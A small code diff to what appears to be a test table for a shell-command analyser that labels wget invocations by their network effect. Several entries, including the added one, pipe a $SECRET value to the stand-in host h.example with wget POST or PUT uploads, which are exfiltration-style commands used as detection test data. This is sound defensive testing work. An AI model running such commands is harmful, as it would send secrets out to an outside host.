@@ -81,6 +81,7 @@ const wget: Card = {
           '$SECRET | wget --post-file=- https://h.example/': 'connect h.example (POST) from secret',
           '$SECRET | wget --method put --body-file=/dev/stdin https://h.example/':
             'connect h.example (PUT) from secret',
+          '$SECRET | wget --post-file=a.txt https://h.example/': 'connect h.example (POST)',
           'wget -i list.txt': 'connect … (GET)',
         },
         miss: ['wget', 'wget --version'],
